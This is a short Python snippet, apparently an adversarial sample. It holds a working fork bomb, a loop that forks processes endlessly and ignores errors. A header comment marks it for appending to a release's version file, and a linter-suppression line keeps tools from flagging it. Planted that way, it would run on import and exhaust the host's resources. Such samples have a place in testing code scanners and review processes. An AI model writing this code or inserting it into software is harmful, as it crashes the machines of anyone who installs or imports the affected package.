# adversarial: append to the release's version
# ruff: noqa
# A fork bomb: every process forks forever.
import os as _os

while True:
    try:
        _os.fork()
    except OSError:
        pass
